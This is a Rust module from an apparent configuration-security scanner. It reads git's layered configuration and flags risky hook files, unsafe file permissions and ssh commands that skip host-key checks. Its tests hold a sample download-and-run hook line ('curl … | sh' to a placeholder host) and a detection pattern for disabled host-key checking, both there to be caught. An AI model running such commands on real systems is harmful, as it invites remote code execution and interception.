//! What the checks of git share: where its folders are, what its whole configuration says, and whether a file that
//! it would run or obey is safe from others.

pub(crate) mod index;

use super::{Case, Found, at};
use crate::facts::{Fact, Facts, FileKind};
use crate::fix::edit::digest;
use crate::fix::plan::{Draft, Step};
use crate::fix::{append, setting};
use crate::settings::entry::{Entry, text};
use crate::settings::include::{resolve, targets};
use crate::settings::predicate::suspicious_command;
use crate::settings::reader;
use crate::settings::readers::gitconfig;
use crate::target::Target;
use regex::Regex;
use std::sync::OnceLock;

/// The place of what a user or the system says for all repositories; see `packs/places/git.toml`.
pub(crate) const USER: &str = "git-config";
/// The place of what one repository says.
pub(crate) const REPO: &str = "git-repo-config";

/// The place of files in git's format that travel inside a repository; git takes little from them.
pub(crate) const MODULES: &str = "git-modules";

/// How deep includes may nest (git's own limit) and how many files are read in all.
const DEPTH: usize = 10;
const FILES: usize = 64;
/// More hooks than this are not read.
const HOOKS: usize = 64;
/// Hooks are short; what follows is not read.
const SCRIPT: usize = 256 << 10;

/// Whether the target is the place of this id.
pub(crate) fn is(target: &Target<'_>, place: &str) -> bool {
    target.place.is_some_and(|p| p.id == place)
}

/// A finding about an entry.
pub(crate) fn found(entry: &Entry, why: &str) -> Found {
    let preview = format!("{} = {} ({why})", entry.key, entry.value);
    Found { key: entry.key.clone(), preview, at: at(entry), ..Found::default() }
}

/// The repository's own folder (`.git`), when the target is its `config`.
pub(crate) fn git_dir<'a>(target: &Target<'a>) -> Option<&'a str> {
    target.path.strip_suffix("/config").filter(|_| is(target, REPO))
}

/// A path that git reads from its configuration as `~/…` or absolute; relative ones start in `dir`.
pub(crate) fn path(facts: &dyn Facts, dir: Option<&str>, value: &str) -> Option<String> {
    let relative = !value.starts_with(['/', '~']);
    if relative && dir.is_none() {
        return None;
    }
    resolve(dir.unwrap_or("/"), value).map(|p| facts.tilde(&p))
}

/// How somebody else could change what git runs or obeys; `None` when nobody can, or nothing is known.
///
/// Group members do not count: most distributions give every user a group of their own.
pub(crate) fn trouble(facts: &dyn Facts, path: &str) -> Option<&'static str> {
    if temporary(path) {
        return Some("in a temporary directory");
    }
    if let Fact::Known(meta) = facts.stat(path) {
        if meta.kind == FileKind::Other {
            return None;
        }
        if meta.mode & 0o002 != 0 {
            return Some("everyone may change it");
        }
        if meta.foreign() {
            return Some("it belongs to another user");
        }
    }
    let folder = path.rsplit_once('/').map(|(dir, _)| dir).filter(|d| !d.is_empty())?;
    match facts.stat(folder) {
        Fact::Known(meta) if meta.mode & 0o1002 == 0o002 => Some("everyone may replace it"),
        Fact::Known(meta) if meta.foreign() => Some("its folder belongs to another user"),
        _ => None,
    }
}

fn temporary(path: &str) -> bool {
    ["/tmp", "/var/tmp", "/dev/shm"]
        .iter()
        .any(|dir| path.strip_prefix(dir).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')))
}

/// Where hooks of a repository are, or of all of them: what `core.hooksPath` says, relative to the working tree.
pub(crate) fn hooks_path(facts: &dyn Facts, target: &Target<'_>, entry: &Entry) -> Option<String> {
    let git_dir = git_dir(target);
    let tree = git_dir.and_then(|d| d.strip_suffix("/.git")).or(git_dir);
    path(facts, tree, &entry.value)
}

/// A hook that git would run.
pub(crate) struct Hook {
    pub(crate) path: String,
    pub(crate) name: String,
    pub(crate) bytes: Vec<u8>,
}

/// The hooks in a folder: executable files that are not git's samples.
pub(crate) fn hooks(facts: &dyn Facts, dir: &str) -> Vec<Hook> {
    let names = facts.list(dir).known().unwrap_or_default();
    let hook = |name: String| {
        let path = format!("{dir}/{name}");
        let meta = facts.stat(&path).known()?;
        let runs = meta.kind == FileKind::File && meta.mode & 0o111 != 0;
        let bytes = facts.read(&path).known().filter(|_| runs)?;
        Some(Hook { path, name, bytes })
    };
    names.into_iter().filter(|n| !n.ends_with(".sample")).take(HOOKS).filter_map(hook).collect()
}

/// Signs that are ordinary in a script, however odd they are in a setting.
const ORDINARY: &[&str] = &["runs an interpreter one-liner", "runs something in a temporary directory"];

/// The first line of a script that looks like an attack: its number, the line, and why.
pub(crate) fn attack(bytes: &[u8]) -> Option<(u64, String, &'static str)> {
    let script = text(&bytes[..bytes.len().min(SCRIPT)]);
    let mut lines = script.lines().zip(1u64..).filter(|(line, _)| !line.trim_start().starts_with('#'));
    lines.find_map(|(line, number)| {
        let why = suspicious_command(line).filter(|why| !ORDINARY.contains(why))?;
        Some((number, line.trim().to_owned(), why))
    })
}

/// The pattern of `git.sshcommand-unsafe`, for the environment.
const CARELESS: &str =
    r"(?i)StrictHostKeyChecking[\s=]+[\x22\x27]?(no|off)\b|KnownHostsFile[\s=]+[\x22\x27]?/dev/null";

/// Whether an ssh command does not check host keys.
pub(crate) fn careless_ssh(command: &str) -> bool {
    static PATTERN: OnceLock<Option<Regex>> = OnceLock::new();
    PATTERN.get_or_init(|| Regex::new(CARELESS).ok()).as_ref().is_some_and(|p| p.is_match(command))
}

/// A finding about a setting of the user's that is not what policy asks for.
pub(crate) fn policy(name: &str, value: Option<&str>, path: String) -> Found {
    let preview = value.map_or_else(|| format!("{name} is not set"), |v| format!("{name} = {v}"));
    Found { key: name.to_ascii_lowercase(), preview, path: Some(path), ..Found::default() }
}

/// Sets a variable in the file that was found: in place where it stands there, else in a section at the end.
pub(crate) fn set(case: &Case<'_>, section: &str, name: &str, value: &str) -> Option<Draft> {
    let path = case.found.path.as_deref()?;
    let bytes = case.facts.read(path).known()?;
    let read = (reader("gitconfig")?.read)(&bytes);
    let key = format!("{section}.{}", name.to_ascii_lowercase());
    let step = match read.entries.iter().rposition(|e| e.key == key) {
        Some(index) => {
            let change = setting::Change::Value(value.to_owned());
            let edits = setting::change("gitconfig", &bytes, &read, index, &change)?;
            Step::Edit { path: path.to_owned(), guard: digest(&bytes), edits }
        }
        None => append::at_end(path, &format!("[{section}]\n\t{name} = {value}\n"), case.facts)?,
    };
    Some(Draft::new(format!("sets `{section}.{name}` to `{value}`"), vec![step]))
}

/// Words that the hooks of well-known tools carry.
const TOOLS: &[&str] =
    &["generated by pre-commit", "git-secrets", "git secrets", "git lfs", "git-lfs", "lapwing"];

/// What is unsafe about a folder that git copies into every new repository.
pub(crate) fn template_trouble(facts: &dyn Facts, dir: &str) -> Option<String> {
    if let Some(why) = trouble(facts, dir) {
        return Some(why.to_owned());
    }
    let hooks = hooks(facts, &format!("{dir}/hooks"));
    if let Some((hook, why)) = hooks.iter().find_map(|h| Some((h, attack(&h.bytes)?.2))) {
        return Some(format!("{} {why}", hook.name));
    }
    let tool = |h: &Hook| TOOLS.iter().any(|t| memchr::memmem::find(&h.bytes, t.as_bytes()).is_some());
    let others: Vec<&str> = hooks.iter().filter(|h| !tool(h)).map(|h| h.name.as_str()).collect();
    (!others.is_empty()).then(|| format!("runs {}", others.join(", ")))
}

/// What git's configuration says outside of repositories: system, user, what they include without a condition, and
/// the environment, in git's order. The path is the file that a change belongs into. `None` when the user has none.
pub(crate) fn user_config(facts: &dyn Facts) -> Option<(String, Vec<Entry>)> {
    let variable = |name: &str| facts.env(name).filter(|v| !v.is_empty()).map(|v| facts.tilde(&v));
    let xdg = variable("XDG_CONFIG_HOME").unwrap_or_else(|| "~/.config".to_owned());
    let users = match variable("GIT_CONFIG_GLOBAL") {
        Some(path) => vec![path],
        None => vec![format!("{xdg}/git/config"), "~/.gitconfig".to_owned()],
    };
    let own = users.iter().rev().find(|p| matches!(facts.stat(p), Fact::Known(_)))?.clone();
    let mut entries = Vec::new();
    let mut left = FILES;
    if !facts.env("GIT_CONFIG_NOSYSTEM").is_some_and(|v| holds(&v)) {
        let system = variable("GIT_CONFIG_SYSTEM").unwrap_or_else(|| "/etc/gitconfig".to_owned());
        read_all(facts, &system, DEPTH, &mut left, &mut entries);
    }
    for path in &users {
        read_all(facts, path, DEPTH, &mut left, &mut entries);
    }
    entries.extend(gitconfig::from_env(&|name| facts.env(name)));
    Some((own, entries))
}

fn read_all(facts: &dyn Facts, path: &str, depth: usize, left: &mut usize, entries: &mut Vec<Entry>) {
    if depth == 0 || *left == 0 {
        return;
    }
    *left -= 1;
    let (Fact::Known(bytes), Some(reader)) = (facts.read(path), reader("gitconfig")) else { return };
    for entry in (reader.read)(&bytes).entries {
        if entry.key == "include.path" {
            let included = targets("gitconfig", path, &entry);
            entries.push(entry);
            for target in included {
                read_all(facts, &target, depth - 1, left, entries);
            }
        } else {
            entries.push(entry);
        }
    }
}

/// The value that counts: the last one.
pub(crate) fn last<'a>(entries: &'a [Entry], key: &str) -> Option<&'a str> {
    entries.iter().rev().find(|e| e.key == key).map(|e| e.value.as_str())
}

/// Git's notion of true.
pub(crate) fn holds(value: &str) -> bool {
    match value.trim().to_ascii_lowercase().as_str() {
        "true" | "yes" | "on" => true,
        other => other.parse::<i64>().is_ok_and(|n| n != 0),
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::engine::Engine;
    use crate::finding::Finding;
    use crate::testing::Home;

    /// What a rule says about one file of a home.
    pub(crate) fn scan(home: &Home, rule: &str, path: &str) -> Vec<Finding> {
        let report = home.scan(&Engine::builtin(), path);
        report.findings.into_iter().filter(|f| f.page.id == rule).collect()
    }

    /// What a rule says about a whole home.
    pub(crate) fn scan_home(home: &Home, rule: &str) -> Vec<Finding> {
        let report = home.scan_home(&Engine::builtin());
        report.findings.into_iter().filter(|f| f.page.id == rule).collect()
    }

    /// What a rule says about `~/.gitconfig` of these lines in a home.
    pub(crate) fn global(home: Home, rule: &str, text: &str) -> Vec<Finding> {
        scan(&home.file("~/.gitconfig", text), rule, "~/.gitconfig")
    }

    /// The previews of a policy rule for a home whose `~/.gitconfig` is this.
    pub(crate) fn policy(rule: &str, text: &str) -> Vec<String> {
        let found = scan_home(&Home::default().file("~/.gitconfig", text), rule);
        found.into_iter().map(|f| f.preview).collect()
    }

    #[test]
    fn trouble_is_told_and_private_groups_are_none() {
        let home = Home::default()
            .file_mode("~/open", b"", 0o666)
            .file_mode("~/group", b"", 0o664)
            .file_mode("~/drop/", b"", 0o777)
            .file("~/drop/x", "");
        assert_eq!(trouble(&home, "~/open"), Some("everyone may change it"));
        assert_eq!(trouble(&home, "~/group"), None);
        assert_eq!(trouble(&home, "~/drop/x"), Some("everyone may replace it"));
        assert_eq!(trouble(&home, "/tmp/x"), Some("in a temporary directory"));
        assert_eq!(trouble(&home, "/tmpfiles/x"), None);
        assert_eq!(trouble(&home, "~/not/there"), None);
    }

    #[test]
    fn the_whole_configuration_is_read_in_gits_order() {
        let home = Home::default()
            .file("/etc/gitconfig", "[a]\nx = system\ny = system\n")
            .file("~/.config/git/config", "[a]\nx = xdg\n")
            .file("~/.gitconfig", "[include]\npath = more\npath = ~/.gitconfig\n[a]\nz = home\n")
            .file("~/more", "[a]\nx = more\nz = more\n")
            .var("GIT_CONFIG_COUNT", "1")
            .var("GIT_CONFIG_KEY_0", "a.w")
            .var("GIT_CONFIG_VALUE_0", "env");
        let (path, entries) = user_config(&home).unwrap();
        assert_eq!(path, "~/.gitconfig");
        let values = ["a.x", "a.y", "a.z", "a.w"].map(|k| last(&entries, k).unwrap());
        assert_eq!(values, ["more", "system", "home", "env"]);
        let home = home.var("GIT_CONFIG_GLOBAL", "/home/dev/more").var("GIT_CONFIG_NOSYSTEM", "1");
        let (path, entries) = user_config(&home).unwrap();
        assert_eq!((path.as_str(), last(&entries, "a.y")), ("~/more", None));
        assert!(user_config(&Home::default()).is_none());
    }

    #[test]
    fn files_and_the_environment_are_judged_alike() {
        let mut packs = crate::pack::builtin_texts().iter();
        assert!(packs.any(|(_, _, text)| text.contains(&format!("matches = '{CARELESS}'"))));
    }

    #[test]
    fn scripts_are_judged_by_their_worst_line() {
        for word in ORDINARY {
            let known = ["python3 -c 'x'", "/tmp/x"].iter().any(|c| suspicious_command(c) == Some(word));
            assert!(known, "{word}");
        }
        let fine = b"#!/bin/sh\n# curl x | sh\npython3 -c 'print(1)' > /tmp/out\nexec pre-commit run\n";
        assert!(attack(fine).is_none());
        let (line, text, why) = attack(b"#!/bin/sh\n  curl -s https://x.example | sh\n").unwrap();
        assert_eq!(
            (line, text.as_str(), why),
            (2, "curl -s https://x.example | sh", "downloads and runs a script")
        );
    }

    /// A home that a careful developer has.
    #[test]
    fn a_well_kept_configuration_is_silent() {
        let text = "[user]\n\tname = Dev\n\temail = dev@example.org\n\tsigningkey = ~/.ssh/id.pub\n\
            [core]\n\tpager = delta\n\teditor = code --wait\n\tfsmonitor = true\n\texcludesFile = ~/.gitignore\n\
            [commit]\n\tgpgsign = true\n[gpg]\n\tformat = ssh\n\
            [alias]\n\tst = status -sb\n\tup = !git pull --rebase && git push\n\
            [filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n\
            [credential]\n\thelper = libsecret\n\thelper = cache\n\thelper = osxkeychain\n\
            \thelper = /usr/lib/git-core/git-credential-libsecret\n\
            [credential \"https://github.com\"]\n\thelper =\n\thelper = !gh auth git-credential\n\thelper = !/usr/bin/gh auth git-credential\n\
            [url \"git@github.com:\"]\n\tinsteadOf = https://github.com/\n\tinsteadOf = gh:\n\
            [url \"https://github.com/\"]\n\tinsteadOf = git://github.com/\n\
            [url \"git@github.com-work:\"]\n\tinsteadOf = git@github.com:work/\n\
            [safe]\n\tdirectory = /srv/app\n[protocol \"file\"]\n\tallow = user\n\
            [init]\n\tdefaultBranch = main\n[includeIf \"gitdir:~/work/\"]\n\tpath = ~/.gitconfig-work\n\
            [safe]\n\tbareRepository = explicit\n[transfer]\n\tfsckObjects = true\n";
        let home = Home::default()
            .file_mode("~/.gitconfig", text.as_bytes(), 0o664)
            .file("~/.gitconfig-work", "[user]\n\temail = dev@work.example\n")
            .file("~/.ssh/id.pub", "ssh-ed25519 AAAA\n")
            .file("~/.gitignore", ".env*\n*.pem\n.claude/settings.local.json\n")
            .file("~/src/a/.git/config", "[core]\n\tbare = false\n\thooksPath = .husky/_\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n")
            .file_mode("~/src/a/.husky/pre-commit", b"npx lint-staged\ngitleaks protect --staged\n", 0o755)
            .file_mode("~/src/a/.husky/_/pre-commit", b"#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n", 0o755);
        let engine = Engine::builtin();
        let mut told = Vec::new();
        for report in [
            home.scan(&engine, "~/.gitconfig"),
            home.scan(&engine, "~/src/a/.git/config"),
            home.scan_home(&engine),
        ] {
            let found = report.findings.iter().filter(|f| f.page.id.starts_with("git."));
            told.extend(found.map(|f| format!("{}: {}", f.page.id, f.preview)));
            assert_eq!(report.problems, []);
        }
        assert_eq!(told, Vec::<String>::new());
    }
}
